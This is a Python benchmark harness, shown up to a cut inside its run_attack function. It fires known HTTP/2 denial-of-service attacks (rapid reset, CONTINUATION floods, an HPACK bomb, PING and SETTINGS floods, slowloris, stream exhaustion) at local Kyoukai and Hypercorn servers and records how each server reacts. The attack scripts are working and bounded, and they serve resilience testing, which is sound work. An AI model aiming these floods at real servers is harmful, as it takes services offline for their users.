"""
The known HTTP/2 attacks run against Kyoukai and Hypercorn side by side, both with their
default settings, each attack on a fresh server process (cleartext HTTP/2 with prior knowledge):

    python bench/attacks.py                  # every attack, about 6 minutes
    python bench/attacks.py --only ping-flood --only rapid-reset
    python bench/attacks.py --list

Prints one row per attack and server: the server's reaction (GOAWAY and its code, RST_STREAM,
a closed connection, still open when the script gave up, or a crashed process), the attack frames
the client had sent when it saw that reaction, the time to it, the server's peak RSS (VmHWM),
the handler invocations (started / most running at once / cancelled, from the app's counters)
and whether a second, well-behaved client (httpx, HTTP/2) was served during and after the
attack. The table also goes to ``bench/results/attacks.json``.

Every script is bounded: a frame count and a time limit. "Frames before the reaction" are the
client's count when it saw the reaction; a server reads them later than they are sent, so the
server-side counts of the attack tests (``tests/test_attacks.py``) are the exact bounds.

Servers: Kyoukai is ``H2KyoukaiComponent`` (the h2c-over-TLS row: ``KyoukaiComponent`` with
``http2: true`` and TLS), run by this file with ``--serve kyoukai``; Hypercorn is the stock
``hypercorn`` command line through ``apps/serve_hypercorn.py`` with ``--workers 0`` (serves in
the process started, so its RSS is measured) and no config file, serving this file's
``asgi_app``. Both apps are the benchmark apps (``apps/kyoukai_app.py``, ``apps/asgi_app.py``)
plus three routes with the same meaning on both: ``/hang`` (counts itself, sleeps 2 s,
answers), ``/stream`` (64 MiB in 64 KiB chunks) and ``/stats`` (the counters, as JSON).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import datetime
import json
import select
import socket
import ssl
import struct
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

BENCH = Path(__file__).resolve().parent
for _path in (str(BENCH), str(BENCH / "apps")):
    if _path not in sys.path:
        sys.path.insert(0, _path)

from servers import APPS, HOST, REPO, ServerError, ServerProcess, free_port, make_certificate  # noqa: E402

RESULTS = BENCH / "results"
HANG_SECONDS = 2.0
STREAM_CHUNK = 65536
STREAM_CHUNKS = 1024  # 64 MiB

# the app: the benchmark app plus /hang, /stream and /stats, for Kyoukai and as ASGI

STATS = {"started": 0, "running": 0, "max_running": 0, "cancelled": 0, "completed": 0}


async def hang() -> None:
    """The body of ``/hang`` on both servers: counted, 2 s long, cancellable."""
    STATS["started"] += 1
    STATS["running"] += 1
    STATS["max_running"] = max(STATS["max_running"], STATS["running"])
    try:
        await asyncio.sleep(HANG_SECONDS)
        STATS["completed"] += 1
    except asyncio.CancelledError:
        STATS["cancelled"] += 1
        raise
    finally:
        STATS["running"] -= 1


async def asgi_app(scope: dict, receive: Callable, send: Callable) -> None:
    """``apps/asgi_app.py`` plus ``/hang``, ``/stream`` and ``/stats`` (served by Hypercorn)."""
    from asgi_app import app as bench_app

    path = scope.get("path")
    if scope["type"] != "http" or path not in ("/hang", "/stream", "/stats"):
        await bench_app(scope, receive, send)
        return
    headers = [(b"content-type", b"text/plain; charset=utf-8")]
    await_body: bytes | None = None
    if path == "/hang":
        await hang()
        await_body = b"done\n"
    elif path == "/stats":
        await_body = json.dumps(STATS).encode()
    if await_body is not None:
        headers.append((b"content-length", str(len(await_body)).encode()))
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": await_body})
        return
    await send({"type": "http.response.start", "status": 200, "headers": headers})
    chunk = b"x" * STREAM_CHUNK
    for _ in range(STREAM_CHUNKS):
        await send({"type": "http.response.body", "body": chunk, "more_body": True})
    await send({"type": "http.response.body", "body": b""})


def serve_kyoukai(port: int, certfile: str | None, keyfile: str | None) -> None:
    """Serve ``apps/kyoukai_app.py`` plus the attack routes until killed (default settings)."""
    import logging

    from asphalt.core import Context
    from kyoukai_app import app
    from werkzeug.wrappers import Response

    from kyoukai import KyoukaiComponent
    from kyoukai.backends.http2 import H2KyoukaiComponent

    @app.route("/hang")
    async def hang_route(ctx):
        await hang()
        return "done\n"

    @app.route("/stats")
    async def stats_route(ctx):
        return json.dumps(STATS)

    @app.route("/stream")
    async def stream_route(ctx):
        async def body():
            chunk = b"x" * STREAM_CHUNK
            for _ in range(STREAM_CHUNKS):
                yield chunk

        return Response(body(), content_type="application/octet-stream")

    if certfile:
        ssl_cfg = {"enabled": True, "ssl_certfile": certfile, "ssl_keyfile": keyfile}
        component = KyoukaiComponent(app, HOST, port, http2=True, ssl=ssl_cfg)
    else:
        component = H2KyoukaiComponent(app, ip=HOST, port=port)

    async def run() -> None:
        async with Context() as ctx:
            await component.start(ctx)
            await asyncio.Event().wait()

    logging.basicConfig(level=logging.WARNING)
    asyncio.run(run())


# HTTP/2 frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8
INITIAL_WINDOW_SIZE = 0x4
ERROR_NAMES = {
    0: "NO_ERROR",
    1: "PROTOCOL_ERROR",
    2: "INTERNAL_ERROR",
    3: "FLOW_CONTROL_ERROR",
    4: "SETTINGS_TIMEOUT",
    5: "STREAM_CLOSED",
    6: "FRAME_SIZE_ERROR",
    7: "REFUSED_STREAM",
    8: "CANCEL",
    9: "COMPRESSION_ERROR",
    10: "CONNECT_ERROR",
    11: "ENHANCE_YOUR_CALM",
    12: "INADEQUATE_SECURITY",
    13: "HTTP_1_1_REQUIRED",
}


def frame(frame_type: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([frame_type, flags]) + struct.pack(">I", stream_id) + payload


def settings_frame(values: dict[int, int] | None = None) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in (values or {}).items()))


def request_headers(path: str = "/", method: str = "GET") -> list[tuple[str, str]]:
    return [(":method", method), (":scheme", "http"), (":authority", f"{HOST}"), (":path", path)]


def tcp_state(sock: socket.socket) -> int:
    """The socket's TCP state (Linux ``TCP_INFO``): 1 established, 7 closed, 8 closed by the peer."""
    return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]


class Reaction(Exception):
    """The server reacted (the attack script stops)."""


class Conn:
    """
    The attacker's HTTP/2 connection: raw frames out, and what comes back parsed just enough
    to see the server's reaction (GOAWAY, RST_STREAM, response statuses, EOF).
    """

    def __init__(
        self,
        port: int,
        settings: dict[int, int] | None = None,
        *,
        rcvbuf: int | None = None,
        connection_window: int = 0,
        handshake: bool = True,
    ) -> None:
        import hpack

        sock = socket.socket()
        if rcvbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.settimeout(5)
        sock.connect((HOST, port))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = sock
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.buf = bytearray()
        self.goaway: int | None = None
        self.eof = False
        self.resets: dict[int, int] = {}
        self.rst_frames = 0
        self.statuses: dict[int, int] = {}
        self.remote_settings = False
        self.frames_in = 0
        self.blocked = False
        #: Attack frames sent so far (set by the scripts), and at the moment of the reaction.
        self.sent = 0
        self.sent_at_reaction: int | None = None
        self.started = time.monotonic()
        self.reacted_at: float | None = None
        self._block: tuple[int, bytearray] | None = None
        if handshake:
            out = PREFACE + settings_frame(settings)
            if connection_window:
                out += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", connection_window))
            sock.sendall(out)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()

    def start(self) -> None:
        """The attack starts now (the reaction time counts from here)."""
        self.started = time.monotonic()
        self.sent = 0

    def send(self, data: bytes) -> bool:
        """Send; ``False`` once the socket fails or the server stops reading for 5 s."""
        try:
            self.sock.sendall(data)
            return True
        except TimeoutError:
            self.blocked = True
            return False
        except OSError:
            # The server closed: what it sent before (its GOAWAY) may still be unread.
            self.pump(0.5)
            if not self.eof:
                self._mark_eof()
            return False

    def _mark_eof(self) -> None:
        self.eof = True
        self._reacted()

    def _reacted(self) -> None:
        if self.reacted_at is None:
            self.reacted_at = time.monotonic()
            self.sent_at_reaction = self.sent

    def pump(self, timeout: float = 0.0) -> None:
        """Read what has arrived (waiting up to ``timeout`` for the first bytes) and handle it."""
        if self.eof:
            return
        deadline = time.monotonic() + timeout
        while True:
            ready, _, _ = select.select([self.sock], [], [], max(0.0, deadline - time.monotonic()))
            if not ready:
                return
            try:
                data = self.sock.recv(1 << 20)
            except (ConnectionResetError, TimeoutError, OSError):
                data = b""
            if not data:
                self._mark_eof()
                return
            self.buf += data
            self._parse()
            deadline = 0  # only what is there already, from now on

    def _parse(self) -> None:
        buf = self.buf
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                return
            frame_type, flags = buf[3], buf[4]
            stream_id = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload = bytes(buf[9 : 9 + length])
            del buf[: 9 + length]
            self.frames_in += 1
            self._handle(frame_type, flags, stream_id, payload)

    def _handle(self, frame_type: int, flags: int, stream_id: int, payload: bytes) -> None:
        if frame_type == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8], "big")
            self._reacted()
        elif frame_type == RST_STREAM:
            self.resets[stream_id] = int.from_bytes(payload[:4], "big")
            self.rst_frames += 1
        elif frame_type == SETTINGS and not flags & ACK:
            self.remote_settings = True
            with contextlib.suppress(OSError):
                self.sock.sendall(frame(SETTINGS, ACK, 0))
        elif frame_type in (HEADERS, CONTINUATION):
            if frame_type == HEADERS:
                if flags & PADDED:
                    payload = payload[1 : len(payload) - payload[0]]
                if flags & 0x20:
                    payload = payload[5:]
                self._block = (stream_id, bytearray(payload))
            elif self._block is not None:
                self._block[1].extend(payload)
            if flags & END_HEADERS and self._block is not None:
                sid, block = self._block
                self._block = None
                for name, value in self.decoder.decode(bytes(block), raw=True):
                    if name == b":status" and sid not in self.statuses:
                        self.statuses[sid] = int(value)

    def wait(self, condition: Callable[[], bool], timeout: float) -> bool:
        deadline = time.monotonic() + timeout
        while not condition():
            remaining = deadline - time.monotonic()
            if remaining <= 0 or self.eof:
                return condition()
            self.pump(min(remaining, 0.05))
        return True

    def wait_ready(self) -> None:
        if not self.wait(lambda: self.remote_settings, 5):
            raise ServerError("no SETTINGS from the server within 5 s")

    @property
    def reacted(self) -> bool:
        return self.goaway is not None or self.eof

    def static_block(self, headers: list[tuple[str, str]], stream_id: int) -> bytes:
        """Send ``headers`` once on ``stream_id`` (their table entries reach the server); the block again."""
        self.send(frame(HEADERS, END_HEADERS | END_STREAM, stream_id, self.encoder.encode(headers)))
        return self.encoder.encode(headers)


# the attacks


@dataclass
class Outcome:
    reaction: str
    frames: int | None = None
    seconds: float | None = None
    note: str = ""


@dataclass
class Result:
    attack: str
    server: str
    outcome: str
    frames_before_reaction: int | None
    seconds_to_reaction: float | None
    peak_rss_mib: float | None
    handlers: dict[str, int] | None
    second_client_during: str
    second_client_after: str
    note: str = ""
    limits: dict[str, Any] = field(default_factory=dict)


class Probe:
    """The well-behaved second client: one HTTP/2 GET / on a new connection, timed."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.during: str | None = None

    def run(self) -> str:
        import httpx

        started = time.monotonic()
        try:
            with httpx.Client(http1=False, http2=True, timeout=5.0) as client:
                response = client.get(f"http://{HOST}:{self.port}/")
            if response.status_code != 200:
                return f"no ({response.status_code})"
        except Exception as e:  # noqa: BLE001 - any failure means "not served"
            return f"no ({type(e).__name__})"
        return f"yes ({(time.monotonic() - started) * 1000:.0f} ms)"

    def now(self) -> None:
        """Probe during the attack (once)."""
        if self.during is None:
            self.during = self.run()


def outcome_of(conn: Conn, limit_seconds: float, extra: str = "") -> Outcome:
    if conn.goaway is not None:
        reaction = f"GOAWAY {ERROR_NAMES.get(conn.goaway, conn.goaway)}"
    elif conn.eof:
        reaction = "closed (no GOAWAY)"
    else:
        reaction = f"open after {limit_seconds:g} s"
    seconds = None if conn.reacted_at is None else conn.reacted_at - conn.started
    note = "; ".join(filter(None, [extra, "client send blocked (server stopped reading)" if conn.blocked else ""]))
    return Outcome(reaction, conn.sent_at_reaction if conn.reacted_at else conn.sent, seconds, note)


def flood(
    port: int,
    probe: Probe,
    make: Callable[[int], bytes],
    setup: Callable[[Conn], None] | None = None,
    *,
    limit: int = 100_000,
    seconds: float = 10.0,
    batch: int = 100,
) -> Outcome:
    """Send ``make(n)`` frames in batches until the server reacts, ``limit`` frames or ``seconds``."""
    conn = Conn(port)
    try:
        conn.wait_ready()
        if setup is not None:
            setup(conn)
        conn.start()
        while conn.sent < limit and time.monotonic() - conn.started < seconds:
            if not conn.send(b"".join(make(conn.sent + i) for i in range(batch))):
                break
            conn.sent += batch
            conn.pump()
            if conn.reacted:
                break
            if conn.sent >= 2 * batch:
                probe.now()
        probe.now()
        conn.wait(lambda: conn.reacted, max(0.5, min(3.0, seconds - (time.monotonic() - conn.started))))
        resets = conn.rst_frames
        return outcome_of(conn, seconds, f"{resets} RST_STREAM from the server" if resets else "")
    finally:
        conn.close()


def open_stream_1(state: str) -> Callable[[Conn], None]:
    """Stream 1 open (a POST whose body never ends), answered and closed, or reset by the client."""

    def setup(conn: Conn) -> None:
        if state == "open":
            conn.send(frame(HEADERS, END_HEADERS, 1, conn.encoder.encode(request_headers("/upload", "POST"))))
        elif state == "closed":
            conn.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, conn.encoder.encode(request_headers("/"))))
            conn.wait(lambda: 1 in conn.statuses, 5)
            conn.pump(0.2)
        else:
            conn.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, conn.encoder.encode(request_headers("/hang"))))
            conn.send(frame(RST_STREAM, 0, 1, struct.pack(">I", 8)))

    return setup


def rapid_reset(port: int, probe: Probe) -> Outcome:
    """HEADERS then RST_STREAM CANCEL, 20,000 streams at most, 10 s at most."""
    conn = Conn(port)
    try:
        conn.wait_ready()
        block = conn.static_block(request_headers("/hang"), 1)
        conn.send(frame(RST_STREAM, 0, 1, struct.pack(">I", 8)))
        conn.start()
        sid = 3
        while conn.sent < 20_000 and time.monotonic() - conn.started < 10:
            out = []
            for _ in range(100):
                out.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, block))
                out.append(frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
                sid += 2
            if not conn.send(b"".join(out)):
                break
            conn.sent += 100
            conn.pump()
            if conn.reacted:
                break
            probe.now()
        probe.now()
        conn.wait(lambda: conn.reacted, 3)
        outcome = outcome_of(conn, 10, "frames = HEADERS+RST pairs")
        return outcome
    finally:
        conn.close()


def server_resets(port: int, probe: Probe) -> Outcome:
    """100 streams held open, then more, each one the server must refuse; 5,000 at most."""
    conn = Conn(port)
    try:
        conn.wait_ready()
        block = conn.static_block(request_headers("/hang"), 1)
        conn.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, sid, block) for sid in range(3, 201, 2)))
        conn.pump(0.2)
        conn.start()
        sid = 201
        while conn.sent < 5000 and time.monotonic() - conn.started < 10 and not conn.reacted:
            if not conn.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, sid + 2 * i, block) for i in range(50))):
                break
            sid += 100
            conn.sent += 50
            conn.pump()
            probe.now()
        probe.now()
        conn.wait(lambda: conn.reacted, 3)
        codes = sorted({ERROR_NAMES.get(c, c) for c in conn.resets.values()})
        return outcome_of(conn, 10, f"{len(conn.resets)} RST_STREAM {','.join(codes)}" if conn.resets else "")
    finally:
        conn.close()


def continuation_flood(fragment: int) -> Callable[[int, Probe], Outcome]:
    def attack(port: int, probe: Probe) -> Outcome:
        def setup(conn: Conn) -> None:
            conn.send(frame(HEADERS, END_STREAM, 1, conn.encoder.encode(request_headers("/hang"))))

        return flood(port, probe, lambda n: frame(CONTINUATION, 0, 1, b"\x00" * fragment), setup, batch=4)

    return attack


def hpack_bomb(port: int, probe: Probe) -> Outcome:
    """A 4 KB header in the dynamic table, then 16,000 one-byte references to it (64 MB decoded)."""
    conn = Conn(port)
    try:
        conn.wait_ready()
        big = ("x-bomb", "a" * 4000)
        head = conn.encoder.encode(request_headers("/"))
        first = conn.encoder.encode([big])
        block = head + first + conn.encoder.encode([big]) * 16000
        return send_block(conn, probe, block, 10)
    finally:
        conn.close()


def tiny_headers(count: int) -> Callable[[int, Probe], Outcome]:
    def attack(port: int, probe: Probe) -> Outcome:
        conn = Conn(port)
        try:
            conn.wait_ready()
            return send_block(conn, probe, conn.encoder.encode(request_headers("/") + [("a", "b")] * count), 10)
        finally:
            conn.close()

    return attack


def send_block(conn: Conn, probe: Probe, block: bytes, seconds: float) -> Outcome:
    """Send one request's header block on stream 1 (in 16,000-byte frames); its answer."""
    parts = [block[i : i + 16000] for i in range(0, len(block), 16000)]
    out = frame(HEADERS, END_STREAM | (END_HEADERS if len(parts) == 1 else 0), 1, parts[0])
    for n, part in enumerate(parts[1:], 2):
        out += frame(CONTINUATION, END_HEADERS if n == len(parts) else 0, 1, part)
    conn.start()
    conn.send(out)
    conn.sent = len(parts)
    probe.now()
    conn.wait(lambda: conn.reacted or 1 in conn.statuses or 1 in conn.resets, seconds)
    if 1 in conn.statuses and not conn.reacted:
        return Outcome(f"answered {conn.statuses[1]}", conn.sent, time.monotonic() - conn.started)
    if 1 in conn.resets and not conn.reacted:
        return Outcome(f"RST_STREAM {ERROR_NAMES.get(conn.resets[1])}", conn.sent, time.monotonic() - conn.started)
    return outcome_of(conn, seconds, f"{len(block)} B compressed")


def ping_flood_never_reading(port: int, probe: Probe) -> Outcome:
    """PINGs, 64 MiB at most, 10 s at most, never reading the acks (32 KiB receive buffer)."""
    conn = Conn(port, rcvbuf=32768)
    try:
        conn.sock.settimeout(2.0)
        batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", n)) for n in range(4096))
        conn.start()
        while conn.sent < 64 * 1024 * 1024 // 17 and time.monotonic() - conn.started < 10:
            if not conn.send(batch):
                break
            conn.sent += 4096
            if conn.sent >= 16384:
                probe.now()
        note = f"{conn.sent * 17 / 1048576:.1f} MiB of PING sent"
        if conn.blocked:
            note += "; client send blocked (server stopped reading)"
        outcome = watch_unread(conn, port, 10, probe, note)
        # The attack is over: now read what the server sent, to find its GOAWAY if any.
        conn.sock.settimeout(0.5)
        conn.pump(0.5)
        if conn.goaway is not None:
            outcome.reaction = f"GOAWAY {ERROR_NAMES.get(conn.goaway, conn.goaway)}"
        return outcome
    finally:
        conn.close()


def zero_window(port: int, probe: Probe) -> Outcome:
    """SETTINGS_INITIAL_WINDOW_SIZE=0, GET /big, never a WINDOW_UPDATE; 35 s at most."""
    conn = Conn(port, {INITIAL_WINDOW_SIZE: 0})
    try:
        conn.wait_ready()
        conn.start()
        conn.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, conn.encoder.encode(request_headers("/big"))))
        conn.sent = 1
        conn.wait(lambda: 1 in conn.statuses or conn.reacted, 5)
        probe.now()
        conn.wait(lambda: conn.reacted or 1 in conn.resets, 35)
        if 1 in conn.resets and not conn.reacted:
            conn.reacted_at = time.monotonic()
            conn.sent_at_reaction = 1
            return Outcome(f"RST_STREAM {ERROR_NAMES.get(conn.resets[1])}", 1, conn.reacted_at - conn.started)
        return outcome_of(conn, 35)
    finally:
        conn.close()


TCP_STATES = {
    1: "ESTABLISHED",
    4: "FIN_WAIT1",
    5: "FIN_WAIT2",
    6: "TIME_WAIT",
    7: "CLOSE",
    8: "CLOSE_WAIT",
    11: "CLOSING",
}


def server_side(conn: Conn, server_port: int) -> tuple[str, int, bool] | None:
    """
    The server's end of ``conn`` from ``/proc/net/tcp``: its TCP state, the bytes in its kernel
    send queue, and whether the process still holds it (``None``: the socket is gone).
    """
    client_port = conn.sock.getsockname()[1]
    with contextlib.suppress(OSError):
        for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
            fields = line.split()
            local, remote = int(fields[1].split(":")[1], 16), int(fields[2].split(":")[1], 16)
            if local == server_port and remote == client_port:
                state = int(fields[3], 16)
                return TCP_STATES.get(state, str(state)), int(fields[4].split(":")[0], 16), fields[9] != "0"
    return None


def watch_unread(conn: Conn, port: int, seconds: float, probe: Probe, note: str = "") -> Outcome:
    """
    Watch a connection whose data the client leaves unread until either end of it changes
    (``seconds`` after the attack started at most):
    the client's TCP state (RST or FIN received) or the server's (it closed its socket, even if
    its FIN is queued behind data the client never accepts). Reads nothing.
    """
    deadline = conn.started + seconds
    probe_at = time.monotonic() + 0.5
    held = False
    while time.monotonic() < deadline:
        client = tcp_state(conn.sock)
        server = server_side(conn, port)
        # (Until the server accepts the connection its socket is not held by the process.)
        held = held or (server is not None and server[2])
        if client != 1:
            how = {7: "dropped (RST)", 8: "closed (FIN)"}.get(client, f"closed (TCP state {client})")
            return Outcome(how, conn.sent, time.monotonic() - conn.started, note)
        if held and (server is None or server[0] != "ESTABLISHED" or not server[2]):
            state, queued, _ = server or ("gone", 0, False)
            how = f"server closed ({state}), client not told"
            extra = f"{queued / 1048576:.1f} MiB left in the server's kernel send queue"
            return Outcome(how, conn.sent, time.monotonic() - conn.started, "; ".join(filter(None, [note, extra])))
        if time.monotonic() > probe_at:
            probe.now()
        select.select([], [], [], 0.1)
    probe.now()
    return Outcome(f"open after {seconds:g} s", conn.sent, None, note)


def never_reads(port: int, probe: Probe) -> Outcome:
    """Windows opened wide, GET /stream (64 MiB), then never read (32 KiB receive buffer); 35 s at most."""
    conn = Conn(port, {INITIAL_WINDOW_SIZE: 2**31 - 1}, rcvbuf=32768, connection_window=2**31 - 1 - 65535)
    try:
        conn.start()
        conn.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, conn.encoder.encode(request_headers("/stream"))))
        conn.sent = 1
        return watch_unread(conn, port, 35, probe)
    finally:
        conn.close()


def slowloris(sent: bytes, seconds: float = 20) -> Callable[[int, Probe], Outcome]:
    def attack(port: int, probe: Probe) -> Outcome:
        conn = Conn(port, handshake=False)
        try:
            conn.start()
            conn.send(sent)
            probe.now()
            raw = bytearray()
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline:
                ready, _, _ = select.select([conn.sock], [], [], deadline - time.monotonic())
                if not ready:
                    break
                try:
                    data = conn.sock.recv(65536)
                except OSError:
                    data = b""
                if not data:
                    conn._mark_eof()
                    break
                raw += data
            if raw.startswith(b"HTTP/"):
                return Outcome(f"HTTP/1.1 {raw[9:12].decode()} and closed", 0, seconds_of(conn))
            conn.buf += raw
            conn._parse()
            if conn.goaway is not None and conn.reacted_at is None:
                conn._reacted()
            return outcome_of(conn, seconds)
        finally:
            conn.close()

    return attack


def seconds_of(conn: Conn) -> float | None:
    return None if conn.reacted_at is None else conn.reacted_at - conn.started


def slowloris_header_block(port: int, probe: Probe) -> Outcome:
    """HEADERS without END_HEADERS, then nothing; 20 s at most."""
    conn = Conn(port)
    try:
        conn.wait_ready()
        conn.start()
        block = conn.encoder.encode(request_headers("/hang"))
        conn.send(frame(HEADERS, END_STREAM, 1, block[:3]))
        conn.sent = 1
        probe.now()
        conn.wait(lambda: conn.reacted, 20)
        return outcome_of(conn, 20)
    finally:
        conn.close()


def stream_exhaustion(port: int, probe: Probe) -> Outcome:
    """150 /hang streams at once on one connection; how many are served and how the rest are refused."""
    conn = Conn(port)
    try:
        conn.wait_ready()
        block = conn.static_block(request_headers("/hang"), 1)
        conn.start()
        conn.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, sid, block) for sid in range(3, 301, 2)))
        conn.sent = 150
        probe.now()
        done = lambda: len(conn.statuses) + len(conn.resets) >= 150 or conn.reacted  # noqa: E731
        conn.wait(done, 10)
        served = sum(1 for status in conn.statuses.values() if status == 200)
        codes = sorted({ERROR_NAMES.get(c, c) for c in conn.resets.values()})
        note = f"{served} served, {len(conn.resets)} RST_STREAM {','.join(codes)}".rstrip()
        if conn.reacted:
            return outcome_of(conn, 10, note)
        return Outcome(note, 150, time.monotonic() - conn.started)
    finally:
        conn.close()


def h2c_upgrade(tls: bool) -> Callable[[int, Probe], Outcome]:
    def attack(port: int, probe: Probe) -> Outcome:
        sock = socket.create_connection((HOST, port), timeout=5)
        try:
            if tls:
                context = ssl.create_default_context()
                context.check_hostname = False
                context.verify_mode = ssl.CERT_NONE
                context.set_alpn_protocols(["http/1.1"])
                sock = context.wrap_socket(sock, server_hostname="localhost")
            started = time.monotonic()
            settings = "AAMAAABkAAQAAP__"
            sock.sendall(
                f"GET / HTTP/1.1\r\nHost: {HOST}:{port}\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                f"Upgrade: h2c\r\nHTTP2-Settings: {settings}\r\n\r\n".encode()
            )
            head = b""
            with contextlib.suppress(OSError):
                while b"\r\n" not in head:
                    data = sock.recv(4096)
                    if not data:
                        break
                    head += data
            probe.now()
            line = head.split(b"\r\n", 1)[0].decode("latin-1")
            verdict = "honoured" if " 101 " in f"{line} " else "not honoured"
            return Outcome(f"{line or 'closed'} ({verdict})", 1, time.monotonic() - started)
        finally:
            sock.close()

    return attack


PING_ = lambda n: frame(PING, 0, 0, struct.pack(">Q", n))  # noqa: E731

#: name: (script, description, TLS server)
ATTACKS: dict[str, tuple[Callable[[int, Probe], Outcome], str, bool]] = {
    "rapid-reset": (rapid_reset, "HEADERS+RST_STREAM pairs, 20,000 max", False),
    "server-resets": (server_resets, "streams over the limit, each refused, 5,000 max", False),
    "rst-amplification": (
        lambda port, probe: flood(port, probe, lambda n: frame(DATA, 0, 1, b"x"), open_stream_1("reset")),
        "1-byte DATA on a stream the client reset, 100,000 max",
        False,
    ),
    "continuation-16k": (continuation_flood(16000), "HEADERS, then 16 KB CONTINUATIONs", False),
    "continuation-empty": (continuation_flood(0), "HEADERS, then empty CONTINUATIONs", False),
    "hpack-bomb": (hpack_bomb, "4 KB header referenced 16,000 times (64 MB decoded)", False),
    "tiny-headers-1800": (tiny_headers(1800), "1,800 indexed 'a: b' (61 KB decoded, under the size limit)", False),
    "tiny-headers-20000": (tiny_headers(20000), "20,000 indexed 'a: b' (680 KB decoded)", False),
    "settings-flood": (lambda port, probe: flood(port, probe, lambda n: settings_frame()), "empty SETTINGS", False),
    "ping-flood": (lambda port, probe: flood(port, probe, PING_), "PING, acks read", False),
    "priority-flood": (
        lambda port, probe: flood(
            port, probe, lambda n: frame(PRIORITY, 0, 3 + 2 * (n % 1000), struct.pack(">IB", 0, 15))
        ),
        "PRIORITY on idle streams",
        False,
    ),
    "window-update-flood": (
        lambda port, probe: flood(port, probe, lambda n: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
        "WINDOW_UPDATE +1 on the connection",
        False,
    ),
    "empty-data-flood": (
        lambda port, probe: flood(port, probe, lambda n: frame(DATA, 0, 1), open_stream_1("open")),
        "empty DATA on an open stream",
        False,
    ),
    "padded-empty-data-flood": (
        lambda port, probe: flood(port, probe, lambda n: frame(DATA, PADDED, 1, b"\x00"), open_stream_1("open")),
        "DATA with only a pad-length byte on an open stream",
        False,
    ),
    "big-window-update-closed-stream": (
        lambda port, probe: flood(
            port, probe, lambda n: frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1 << 20)), open_stream_1("closed")
        ),
        "WINDOW_UPDATE +1 MiB on a closed stream",
        False,
    ),
    "unknown-frame-flood": (
        lambda port, probe: flood(port, probe, lambda n: frame(0xFA, 0, 0, b"12345678")),
        "frames of an unknown type",
        False,
    ),
    "ping-flood-never-reading": (ping_flood_never_reading, "PINGs, acks never read, 64 MiB max", False),
    "zero-window": (zero_window, "INITIAL_WINDOW_SIZE=0, GET /big, 35 s max", False),
    "never-reads-download": (never_reads, "GET /stream (64 MiB), socket never read, 35 s max", False),
    "slowloris-nothing": (slowloris(b""), "connect, send nothing, 20 s max", False),
    "slowloris-half-preface": (slowloris(PREFACE[:12]), "half the preface, 20 s max", False),
    "slowloris-header-block": (slowloris_header_block, "HEADERS without END_HEADERS, 20 s max", False),
    "stream-exhaustion": (stream_exhaustion, "150 streams at once (limit 100 on both)", False),
    "h2c-upgrade-cleartext": (h2c_upgrade(False), "Upgrade: h2c on the cleartext port", False),
    "h2c-upgrade-tls": (h2c_upgrade(True), "Upgrade: h2c over TLS (ALPN http/1.1)", True),
}


# running


def server_command(server: str, port: int, certs: tuple[Path, Path] | None) -> tuple[list[str], Path]:
    if server == "kyoukai":
        cmd = [sys.executable, str(Path(__file__).resolve()), "--serve", "kyoukai", "--port", str(port)]
        if certs:
            cmd += ["--certfile", str(certs[0]), "--keyfile", str(certs[1])]
        return cmd, REPO
    cmd = [sys.executable, "serve_hypercorn.py", "--bind", f"{HOST}:{port}", "--workers", "0", "--log-level", "WARNING"]
    if certs:
        cmd += ["--certfile", str(certs[0]), "--keyfile", str(certs[1])]
    cmd.append(f"{Path(__file__).resolve()}:asgi_app")
    return cmd, APPS


def handler_stats(port: int, tls: bool) -> dict[str, int] | None:
    import httpx

    if tls:
        return None
    try:
        with httpx.Client(http1=False, http2=True, timeout=10.0) as client:
            return json.loads(client.get(f"http://{HOST}:{port}/stats").text)
    except Exception:  # noqa: BLE001 - a server that no longer answers has no stats to show
        return None


def run_attack(name: str, server: str, certs: tuple[Path, Path], logs: Path) -> Result:
    script, _, tls = ATTACKS[name]
    port = free_port()
    cmd, cwd = server_command(server, port, certs if tls else None)
    with ServerProcess(cmd, cwd, port, None, logs / f"{server}-{name}.log") as process:
        probe = Probe(port)
        try:
            outcome = script(port, probe)
        except (OSError, ServerError) as e:
            outcome = Outcome(f"script error: {type(e).__name__}: {e}")
        crashed = process.process.poll() is not None
        after = "no (crashed)" if crashed else (probe.run() if not tls else "n/a (TLS)")
        stats = None if crashed else handler_stats(port, tls)
        rss = process.peak_rss_kib()
    return Result(
        attack=name,
        server=server,
        outcome="crashed" if crashed else outcome.reaction,
